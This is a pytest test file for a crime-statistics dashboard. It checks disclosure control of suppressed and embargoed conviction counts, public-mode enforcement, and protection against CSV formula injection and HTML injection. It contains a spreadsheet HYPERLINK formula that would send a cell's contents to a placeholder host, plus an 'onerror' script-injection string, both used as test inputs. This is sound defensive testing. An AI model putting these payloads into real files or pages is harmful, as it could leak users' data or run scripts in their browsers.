"""The public face (SPEC 7, 10, 13): a snapshot of its own that holds only what may be
public, an app launched on it with nothing to switch off, and every page, table and download
of it free of suppressed values; human-facing CSVs safe to open in a spreadsheet.

The fixture warehouse (tests/dashboards_fixtures.py) has small person counts (2 women
convicted in 2023, one person through ECRIS), a CRIM_JUST delivery whose file and cells hold
the true values of confidential cells, releases still under embargo (a second vintage of
CRIM_JUST 2023, CRIM_JUST 2024, CRIM_OFF_CAT 2024); the internal snapshot gets a customs post
named like a spreadsheet formula before the public one is made. The breakdowns of persons
convicted are the releases' cells as released: checked cell by cell, vintage and embargo,
and with every suppressed cell's true value planted where a leak would show.
"""

from __future__ import annotations

import contextlib
import csv
import io
import shutil
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import duckdb
import polars as pl
import pytest
import streamlit
from click.testing import CliRunner
from dashboards_fixtures import (
    CONFIDENTIAL_FILE,
    EMBARGOED_FILE,
    EMBARGOED_PERSON_RELEASES,
    PAGES,
    RELEASE_FILE,
    TRUE_VALUE_MARK,
    build_warehouse_isolated,
    open_page,
    query,
)

from core.csv_safety import neutralise, neutralise_text
from core.snapshot_layout import POINTER_FILE, PUBLIC_SETTING, current_snapshot, public_serving_dir
from crimestat import cli
from dashboards import i18n
from publication.public_snapshot import publish_public_snapshot
from publication.serving import publish_snapshot

FORMULA = '=HYPERLINK("http://x/?"&A1,"post")'
ECRIS_METRIC = i18n.text("persons_convicted_ecris", "en")
PUBLIC_PAGES = [p for p in PAGES if p != "quality"]


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    home = tmp_path_factory.mktemp("dashboards_public")
    build_warehouse_isolated(home)
    internal = publish_snapshot(
        home / "warehouse.duckdb", home / "serving", exports_dir=home / "exports"
    )
    # Whatever reaches the snapshot: a customs post that a spreadsheet would evaluate.
    with contextlib.closing(duckdb.connect(str(internal))) as con:
        con.execute(
            "update marts.customs_violation_points set customs_post = ? "
            "where customs_post = 'Kybartai'",
            [FORMULA],
        )
    publish_public_snapshot(internal, public_serving_dir(home / "serving"),
                            exports_dir=home / "exports")  # fmt: skip
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("CRIMESTAT_HOME", str(home))
        yield home


@pytest.fixture
def public_face(home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The app as `crimestat dashboards --public` starts it."""
    monkeypatch.setenv(PUBLIC_SETTING, "1")
    return home


def public_snapshot(home: Path) -> Path:
    path = current_snapshot(public_serving_dir(home / "serving"))
    assert path is not None and path.is_file()
    return path


# ------------------------------------------------------------------ the public snapshot


def test_public_snapshot_holds_only_public_tables(home: Path) -> None:
    snapshot = public_snapshot(home)
    tables = {f"{s}.{t}" for s, t in query(snapshot, "select schema_name, table_name "
                                                     "from duckdb_tables()")}  # fmt: skip
    assert tables == {
        "reference.iccs_codes", "reference.iccs_hierarchy", "reference.municipalities",
        "reference.county_population", "reference.population_by_year",
        "marts.recorded_offences", "marts.recorded_offences_annual", "marts.solved_offences",
        "marts.customs_violations", "marts.customs_seizures", "marts.customs_violation_points",
        "serving.snapshot_info", "serving.export_files", "serving.release_revisions",
        "public.persons_convicted_breakdowns",
        "releases.releases", "releases.release_files", "releases.release_cells",
    }  # fmt: skip
    # Suppressed cells: no value, one flag.
    flags = query(snapshot, "select distinct conf_status from public.persons_convicted_breakdowns "
                            "order by 1")  # fmt: skip
    assert ("C",) in flags and set(flags) <= {("C",), ("F",)}
    shown_hidden = query(snapshot, "select count(*) from public.persons_convicted_breakdowns "
                                   "where conf_status <> 'F' and persons is not null")  # fmt: skip
    assert shown_hidden == [(0,)]
    assert query(snapshot, "select count(*) from public.persons_convicted_breakdowns "
                           "where persons between 1 and 2") == [(0,)]  # fmt: skip
    # Public releases only: no Eurostat person counts, nothing under embargo.
    assert query(snapshot, "select release_id from releases.releases order by 1") == [
        ("CRIM_OFF_CAT-2023-v1",), ("CRIM_OFF_CAT-2023-v2",)]  # fmt: skip
    assert query(snapshot, "select distinct release_id from releases.release_cells "
                           "order by 1") == [("CRIM_OFF_CAT-2023-v1",),
                                             ("CRIM_OFF_CAT-2023-v2",)]  # fmt: skip
    assert query(snapshot, "select relative_path from serving.export_files") == [(RELEASE_FILE,)]
    # Revisions of public releases only, made from their public cells.
    assert query(snapshot, "select distinct release_id, previous_release_id "
                           "from serving.release_revisions") == [
        ("CRIM_OFF_CAT-2023-v2", "CRIM_OFF_CAT-2023-v1")]  # fmt: skip
    # No warehouse path, no quality results, no quarantine.
    assert query(snapshot, "select column_name from duckdb_columns() where table_name = "
                           "'snapshot_info' order by 1") == [
        ("disclosure_threshold",), ("face",), ("published_at",)]  # fmt: skip


def test_public_snapshot_has_no_disclosure_audit(home: Path) -> None:
    """The internal snapshot has the CRIM_JUST release's disclosure audit (intervals of
    suppressed cells); the public one, which publishes no release of persons, has no audit
    table at all."""
    internal = current_snapshot(home / "serving")
    assert internal is not None
    assert query(internal, "select release_id from releases.disclosure_audits") == [
        ("CRIM_JUST-2023-v1",)]  # fmt: skip
    assert query(public_snapshot(home), "select schema_name, table_name from duckdb_tables() "
                 "where table_name like '%audit%'") == []  # fmt: skip


def test_public_files_are_only_public_release_files(home: Path) -> None:
    files = public_serving_dir(home / "serving") / "files"
    found = sorted(p.relative_to(files).as_posix() for p in files.rglob("*") if p.is_file())
    assert found == [RELEASE_FILE]
    assert (files / RELEASE_FILE).read_bytes() == (home / "exports" / RELEASE_FILE).read_bytes()
    assert (home / "exports" / CONFIDENTIAL_FILE).is_file()  # there, but not public


def test_embargo_lifts_at_the_next_publication(home: Path, tmp_path: Path) -> None:
    internal = current_snapshot(home / "serving")
    assert internal is not None
    later = publish_public_snapshot(internal, tmp_path / "public", exports_dir=home / "exports",
                                    now=datetime(2099, 6, 1, tzinfo=UTC))  # fmt: skip
    assert ("CRIM_OFF_CAT-2024-v1",) in query(later, "select release_id from releases.releases")
    assert (tmp_path / "public" / "files" / EMBARGOED_FILE).is_file()
    # Never a delivery of person counts, embargo or not.
    assert not (tmp_path / "public" / "files" / CONFIDENTIAL_FILE).exists()
    assert (tmp_path / "public" / POINTER_FILE).is_file()


def test_changed_release_file_is_not_published(home: Path, tmp_path: Path) -> None:
    """A public file whose bytes differ from the digest its release recorded stops the
    public publication (published files are immutable)."""
    from publication.serving import SnapshotError

    exports = tmp_path / "exports"
    (exports / RELEASE_FILE).parent.mkdir(parents=True)
    (exports / RELEASE_FILE).write_text("<changed/>", encoding="utf-8")
    internal = current_snapshot(home / "serving")
    assert internal is not None
    with pytest.raises(SnapshotError, match="does not match the SHA-256"):
        publish_public_snapshot(internal, tmp_path / "public", exports_dir=exports)
    assert current_snapshot(tmp_path / "public") is None


# ------------------------------------------------------------------ persons convicted as released

# Each breakdown of the convictions page: its cells' series key in the release (the code in
# place of {}, dimensions in DSD order) and its codes in the order shown.
SECTIONS = ("TOTAL", *(f"ICCS{n:02}" for n in range(1, 12)))  # UNMAPPED is never published
AREAS = ("TOTAL", "TERR", "THB", "DRUG_TRAF", "MIGR_SMUG", "MONEY_LAUND", "ORG_CRIME", "CYBER",
         "GOODS_SMUG")  # fmt: skip
CITIZENS = ("TOTAL", "NAT", "EU27_2020_FOR", "NEU27_2020_FOR", "STLS", "UNK")
AGES = ("TOTAL", "Y_LT18", "Y14-17", "Y_GE18", "Y18-24", "Y25-34", "Y35-44", "Y45-54", "Y55-64",
        "Y_GE65", "UNK")  # fmt: skip
BREAKDOWNS = {
    ("DOM", "sex"): ("A.PER_CNV.TOTAL.{}.TOTAL.TOTAL.NR.LT", ("T", "M", "F")),
    ("DOM", "age_group"): ("A.PER_CNV.TOTAL.T.{}.TOTAL.NR.LT", AGES),
    ("DOM", "citizen_group"): ("A.PER_CNV.TOTAL.T.TOTAL.{}.NR.LT", CITIZENS),
    ("DOM", "iccs_section"): ("A.PER_CNV.{}.T.TOTAL.TOTAL.NR.LT", SECTIONS),
    ("DOM", "crime_area"): ("A.{}.TOTAL.DOM.NR.LT", AREAS),
    ("ECRIS", "citizen_group"): ("A.TOTAL.{}.ECRIS.NR.LT", CITIZENS),
    ("ECRIS", "crime_area"): ("A.{}.TOTAL.ECRIS.NR.LT", AREAS),
}
BREAKDOWN_ROWS = (
    "select ref_year, origin, breakdown, release_id, code, position, persons, conf_status "
    "from public.persons_convicted_breakdowns order by all"
)


def released_cells(warehouse: Path) -> dict[tuple[str, str, str], tuple[float, str]]:
    """(release id, series key, period) -> (true value, CONF_STATUS), as recorded."""
    return {
        (release_id, key, period): (value, flag)
        for release_id, key, period, value, flag in query(
            warehouse, "select release_id, series_key, time_period, obs_value, conf_status "
            "from releases.release_cells")
    }  # fmt: skip


def breakdown_tables(snapshot: Path) -> dict[tuple[int, str, str, str], list[tuple]]:
    """The public breakdown rows by (year, origin, breakdown, release id)."""
    tables: dict[tuple[int, str, str, str], list[tuple]] = {}
    for year, origin, breakdown, release_id, *row in query(snapshot, BREAKDOWN_ROWS):
        tables.setdefault((year, origin, breakdown, release_id), []).append(tuple(row))
    return {key: sorted(rows, key=lambda row: row[1]) for key, rows in tables.items()}


def test_public_breakdowns_are_the_released_cells(home: Path) -> None:
    """Every cell of the public breakdowns (the public snapshot's, and the internal one's
    for the preview) is its cell of the release as released: the value when free, no value
    and C otherwise. Every breakdown is whole, in its codes' order, from the latest release
    out of embargo of its year and dataset; nothing of a year all under embargo (2024)."""
    cells = released_cells(home / "warehouse.duckdb")
    internal = current_snapshot(home / "serving")
    assert internal is not None
    for snapshot in (public_snapshot(home), internal):
        tables = breakdown_tables(snapshot)
        assert {(year, release_id) for year, _, _, release_id in tables} == {
            (2023, "CRIM_JUST-2023-v1"), (2023, "EJ_XB_CONV-2023-v1")}  # fmt: skip
        assert sorted((origin, breakdown) for _, origin, breakdown, _ in tables) == sorted(
            BREAKDOWNS
        )
        for (year, origin, breakdown, release_id), rows in tables.items():
            template, codes = BREAKDOWNS[origin, breakdown]
            assert [(code, position) for code, position, _, _ in rows] == [
                (code, position) for position, code in enumerate(codes)]  # fmt: skip
            for code, _, persons, flag in rows:
                value, released = cells[release_id, template.format(code), str(year)]
                expected = (int(value), "F") if released == "F" else (None, "C")
                assert (persons, flag) == expected, (release_id, breakdown, code)
    # Not vacuous: the release has free cells and cells it suppressed, C and D alike.
    flags = {flag for (release_id, _, _), (_, flag) in cells.items()
             if release_id == "CRIM_JUST-2023-v1"}  # fmt: skip
    assert flags == {"F", "C", "D"}


def test_an_embargoed_vintage_is_used_once_its_embargo_passes(home: Path, tmp_path: Path) -> None:
    """The internal snapshot keeps every vintage; the public table takes, per year and
    dataset, the latest vintage out of embargo at its publication: CRIM_JUST-2023-v1 while
    v2 (late convictions: 5 more in ICCS section 02, free) is under embargo, v2 from the
    moment it lifts, and 2024 only then."""
    internal = current_snapshot(home / "serving")
    assert internal is not None
    assert query(internal, "select distinct release_id from serving.persons_convicted_breakdowns "
                 "where dataset = 'CRIM_JUST' order by 1") == [
        ("CRIM_JUST-2023-v1",), ("CRIM_JUST-2023-v2",), ("CRIM_JUST-2024-v1",)]  # fmt: skip

    def crim_just(snapshot: Path) -> tuple[set[tuple[int, str]], list[tuple]]:
        releases = {(year, release_id) for year, _, _, release_id in breakdown_tables(snapshot)
                    if release_id.startswith("CRIM_JUST")}  # fmt: skip
        section_02 = query(snapshot, "select persons, conf_status from "
                           "public.persons_convicted_breakdowns where ref_year = 2023 "
                           "and breakdown = 'iccs_section' and code = 'ICCS02'")  # fmt: skip
        return releases, section_02

    assert crim_just(public_snapshot(home)) == ({(2023, "CRIM_JUST-2023-v1")}, [(0, "F")])
    lifted = datetime(2099, 1, 1, 10, tzinfo=UTC)  # CRIM_JUST-2023-v2's and 2024-v1's embargo
    before = publish_public_snapshot(
        internal, tmp_path / "before", now=lifted - timedelta(seconds=1)
    )
    assert crim_just(before) == ({(2023, "CRIM_JUST-2023-v1")}, [(0, "F")])
    at = publish_public_snapshot(internal, tmp_path / "at", now=lifted)
    assert crim_just(at) == (
        {(2023, "CRIM_JUST-2023-v2"), (2024, "CRIM_JUST-2024-v1")}, [(5, "F")])  # fmt: skip


SENTINEL = 271_828_182_000  # + n: the planted true value of the n-th suppressed person cell


def test_no_value_of_a_suppressed_release_cell_reaches_the_public_face(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The fixture's warehouse with every suppressed cell of its releases of persons (C or
    D, every vintage, under embargo or not) given a true value found nowhere else
    (SENTINEL + n), published again: no column of any table of the public snapshot, nor
    the internal snapshot's public table, nor anything the public convictions page shows,
    holds one. The internal snapshot does hold them (the cells and their revisions), so the
    search finds what is there."""
    planted = tmp_path / "home"
    planted.mkdir()
    shutil.copyfile(home / "warehouse.duckdb", planted / "warehouse.duckdb")
    with contextlib.closing(duckdb.connect(str(planted / "warehouse.duckdb"))) as con:
        con.execute(
            "update releases.release_cells c set obs_value = s.value from (select rowid as id, "
            f"{SENTINEL} + row_number() over () as value from releases.release_cells "
            "where conf_status <> 'F' and release_id in (select release_id from "
            "releases.releases where dataset in ('CRIM_JUST', 'EJ_XB_CONV'))) s "
            "where c.rowid = s.id"
        )
        [(count,)] = con.execute(f"select count(*) from releases.release_cells "
                                 f"where obs_value > {SENTINEL}").fetchall()  # fmt: skip
    assert count > 200
    internal = publish_snapshot(planted / "warehouse.duckdb", planted / "serving",
                                exports_dir=home / "exports")  # fmt: skip
    public = publish_public_snapshot(internal, public_serving_dir(planted / "serving"),
                                     exports_dir=home / "exports")  # fmt: skip

    def holding(snapshot: Path, tables: str = "true") -> set[str]:
        with contextlib.closing(duckdb.connect(str(snapshot), read_only=True)) as con:
            columns = con.execute("select schema_name, table_name, column_name "
                                  f"from duckdb_columns() where {tables}").fetchall()  # fmt: skip
            return {
                f"{schema}.{table}.{column}"
                for schema, table, column in columns
                if con.execute(f'select count(*) from "{schema}"."{table}" where '
                               f"\"{column}\"::varchar like '%{str(SENTINEL)[:9]}%'"
                               ).fetchall() != [(0,)]
            }  # fmt: skip

    assert holding(public) == set()
    assert holding(internal, "schema_name = 'public'") == set()
    assert holding(internal) == {"releases.release_cells.obs_value",
                                 "serving.persons_convicted_breakdowns.persons",
                                 "serving.release_revisions.previous_value",
                                 "serving.release_revisions.new_value"}  # fmt: skip

    monkeypatch.setenv("CRIMESTAT_HOME", str(planted))
    monkeypatch.setenv(PUBLIC_SETTING, "1")
    downloads = Downloads(monkeypatch)
    for year in (2023, 2024):
        app = open_page("convictions", language="en", convictions_year=year)
        assert not app.exception, [e.value for e in app.exception]
        shown = [str(e.value) for e in (*app.metric, *app.caption, *app.info, *app.markdown)]
        shown += [f.value.to_csv() for f in app.dataframe]
        shown += [content.decode() for _, content in downloads.files]
        assert not [text for text in shown if str(SENTINEL)[:9] in text]
    assert downloads.files


# ------------------------------------------------------------------ the public face


class Downloads:
    """Every st.download_button of a run: (file name, bytes)."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch) -> None:
        self.files: list[tuple[str, bytes]] = []
        original = streamlit.download_button

        def recording(label: str, data: Any, *args: Any, **kwargs: Any) -> Any:
            content = data() if callable(data) else data
            content = content.encode() if isinstance(content, str) else bytes(content)
            self.files.append((kwargs.get("file_name") or label, content))
            return original(label, data, *args, **kwargs)

        monkeypatch.setattr(streamlit, "download_button", recording)


def _flag_columns(language: str) -> tuple[str, str]:
    return i18n.text("persons", language), i18n.text("conf_status", language)


def assert_no_suppressed_value(rows: list[dict[str, str]], where: str) -> None:
    """Rows of a table or CSV: a cell flagged C shows C and no number; no D anywhere."""
    for language in ("en", "lt"):
        persons, flag = _flag_columns(language)
        for row in rows:
            if flag not in row:
                continue
            assert row[flag] in ("F", "C"), (where, row)
            if row[flag] == "C" and persons in row:
                assert row[persons] in ("C", "", None), (where, row)


def page_runs(page: str) -> list[dict[str, Any]]:
    """The widget states each page is opened with: every year that has small cells, every
    public release."""
    years = {"overview": "overview_year", "offences": "offences_year",
             "convictions": "convictions_year", "customs": "customs_year"}  # fmt: skip
    if page in years:
        return [{years[page]: year} for year in (2023, 2024)]
    if page == "releases":
        return [{"release_pick": r} for r in ("CRIM_OFF_CAT-2023-v2", "CRIM_OFF_CAT-2023-v1")]
    return [{}]


@pytest.mark.parametrize("page", PUBLIC_PAGES)
def test_public_face_shows_no_suppressed_value(
    public_face: Path, page: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every public page, every table, metric and download: no true value of a suppressed
    cell, no confidential or embargoed file, no D flag; a visitor's session state cannot
    switch public mode off."""
    for state in page_runs(page):
        downloads = Downloads(monkeypatch)
        app = open_page(page, language="en", public_mode=False, **state)
        assert not app.exception, [e.value for e in app.exception]
        assert not app.toggle and not app.checkbox, "a control on the public face"
        for frame in app.dataframe:
            assert_no_suppressed_value(frame.value.astype(str).to_dict("records"), page)
        for name, content in downloads.files:
            assert TRUE_VALUE_MARK.encode() not in content, name
            if name.endswith(".csv"):
                rows = list(csv.DictReader(io.StringIO(content.decode("utf-8"))))
                assert_no_suppressed_value(rows, name)
        names = [name for name, _ in downloads.files]
        assert not any(n in (Path(CONFIDENTIAL_FILE).name, Path(EMBARGOED_FILE).name)
                       for n in names), names  # fmt: skip
        text = " ".join(str(e.value) for e in (*app.markdown, *app.caption, *app.info))
        shown = text + " ".join(f.value.to_csv() for f in app.dataframe)
        assert "embargoed" not in text
        assert not any(r in shown for r in EMBARGOED_PERSON_RELEASES), page
        if page == "convictions" and state["convictions_year"] == 2023:
            ecris = [m.value for m in app.metric if m.label == ECRIS_METRIC]
            assert ecris == ["C"]
            persons, flag = _flag_columns("en")
            by_sex = next(f.value for f in app.dataframe if {persons, flag} <= set(f.value))
            assert dict(zip(by_sex["Code"], by_sex[persons], strict=True)) == {
                "T": "C", "M": "C", "F": "C"}  # fmt: skip
            assert "CRIM_JUST-2023-v1" in text  # the release each figure comes from
        if page == "convictions" and state["convictions_year"] == 2024:
            assert [i.value for i in app.info] == [i18n.text("not_released", "en", year=2024)] * 2
        if page == "releases":
            calendar = next(f.value for f in app.dataframe if "Release" in f.value.columns)
            assert sorted(calendar["Release"]) == ["CRIM_OFF_CAT-2023-v1", "CRIM_OFF_CAT-2023-v2"]
        if page == "customs" and state["customs_year"] == 2023:
            [posts] = [c for n, c in downloads.files if n.startswith("customs_posts_")]
            assert f'"\'{FORMULA.replace(chr(34), chr(34) * 2)}"'.encode() in posts
            assert b'"=HYPERLINK' not in posts and b",=HYPERLINK" not in posts


def test_public_face_has_no_quality_page(public_face: Path) -> None:
    app = open_page("overview", language="en", public_mode=False)
    with pytest.raises(ValueError, match="Could not find a navigation page"):
        app.switch_page("views/quality.py")


def test_public_face_never_reads_the_internal_snapshot(
    public_face: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With an internal snapshot but no public one, the public face has nothing to show."""
    internal_only = tmp_path / "home"
    (internal_only / "serving").mkdir(parents=True)
    for item in (public_face / "serving").iterdir():
        if item.name != "public":
            (internal_only / "serving" / item.name).symlink_to(item)
    monkeypatch.setenv("CRIMESTAT_HOME", str(internal_only))
    app = open_page("convictions", language="en")
    assert [i.value for i in app.info] == [i18n.text("no_snapshot", "en")]


def test_internal_face_keeps_true_values_and_neutralises_downloads(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv(PUBLIC_SETTING, raising=False)
    downloads = Downloads(monkeypatch)
    app = open_page("customs", language="en", customs_year=2023)
    assert not app.exception
    [posts] = [content for name, content in downloads.files if name.startswith("customs_posts_")]
    assert f'"\'{FORMULA.replace(chr(34), chr(34) * 2)}",Russia border,1'.encode() in posts
    convictions = open_page("convictions", language="en", convictions_year=2023)
    assert [m.value for m in convictions.metric if m.label == ECRIS_METRIC] == ["1"]
    assert convictions.toggle  # the statisticians' preview of the public view


# ------------------------------------------------------------------ launching the public face


def test_dashboards_public_starts_streamlit_on_the_public_face(
    crimestat_home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    started: list[dict[str, str]] = []
    monkeypatch.delenv(PUBLIC_SETTING, raising=False)
    monkeypatch.setattr(cli, "_serve", lambda commands, environment: started.append(environment))
    runner = CliRunner()
    assert runner.invoke(cli.main, ["dashboards", "--public"]).exit_code == 0
    assert runner.invoke(cli.main, ["dashboards"]).exit_code == 0
    monkeypatch.setenv(PUBLIC_SETTING, "yes")  # a deployment's setting: no flag can undo it
    assert runner.invoke(cli.main, ["dashboards"]).exit_code == 0
    assert [e[PUBLIC_SETTING] for e in started] == ["1", "0", "1"]
    monkeypatch.setenv(PUBLIC_SETTING, "ture")
    refused = runner.invoke(cli.main, ["dashboards"])
    assert refused.exit_code == 1 and PUBLIC_SETTING in refused.output
    assert len(started) == 3


# ------------------------------------------------------------------ CSV injection


def test_neutralise_text_cells_only() -> None:
    frame = pl.DataFrame({
        "post": [FORMULA, "+370", "-1", "@SUM(A1)", "\tcmd", "\r=1", "Medininkai", None],
        "count": [-1, 2, 3, 4, 5, 6, 7, 8],
        "rate": [-1.5, 0.0, 1.0, None, 2.0, 3.0, 4.0, 5.0],
    })  # fmt: skip
    safe = neutralise(frame)
    assert safe["post"].to_list() == [
        "'" + FORMULA,
        "'+370",
        "'-1",
        "'@SUM(A1)",
        "'\tcmd",
        "'\r=1",
        "Medininkai",
        None,
    ]
    assert safe["count"].to_list() == frame["count"].to_list()
    assert safe.schema == frame.schema
    assert safe.write_csv().splitlines()[1] == '"\'=HYPERLINK(""http://x/?""&A1,""post"")",-1,-1.5'
    assert neutralise(pl.DataFrame({"=x": ["a"]})).columns == ["'=x"]
    assert neutralise_text("Kybartai") == "Kybartai"


def test_partner_csv_label_is_neutralised(monkeypatch: pytest.MonkeyPatch) -> None:
    """A label that would be a formula ends neutralised in the partner's labelled CSV; the
    numbers (a negative one too) stay numbers."""
    import datetime as dt

    from core.settings import StructureSettings
    from publication.partners import tables
    from publication.partners.config import load_partner

    settings = StructureSettings()
    table = next(
        t for t in load_partner("LV", settings).tables if t.id == "customs_violations_lt_lv"
    )
    mart = pl.DataFrame({
        "ref_month": [dt.date(2024, 1, 1)] * 2, "border_section": ["LT-LV"] * 2,
        "violation_type": ["fuel", "cigarettes"], "procedure": ["administrative", "criminal"],
        "violations": [3, 1],
    })  # fmt: skip
    observations = tables.table_observations(mart, table, "2024-01", settings)
    labels = {**tables.CODE_LABELS, "en": {**tables.CODE_LABELS["en"], "fuel": FORMULA}}
    monkeypatch.setattr(tables, "CODE_LABELS", labels)
    written = tables.labelled_table(observations, table, "en", settings).frame.write_csv()
    rows = list(csv.DictReader(io.StringIO(written)))
    assert {r["violation_type_label"] for r in rows if r["violation_type"] == "fuel"} == {
        "'" + FORMULA
    }
    assert not any(v.startswith("=") for r in rows for v in r.values())
    assert {r["violations"] for r in rows if r["violation_type"] == "TOTAL"} >= {"4"}


def test_map_tooltips_hold_no_markup_from_data() -> None:
    """Map tooltips are HTML: a customs post named like markup is shown as text."""
    from dashboards import maps

    deck = maps.point_map([{"name": '<img src=x onerror="alert(1)">', "tooltip": "<b>1</b>",
                            "lat": 54.6, "lon": 25.0, "violations": 1,
                            "violation_type": "fuel"}])  # fmt: skip
    spec = deck.to_json()
    assert "<img" not in spec and "&lt;img src=x onerror=" in spec
    assert "&lt;b&gt;1&lt;/b&gt;" in spec
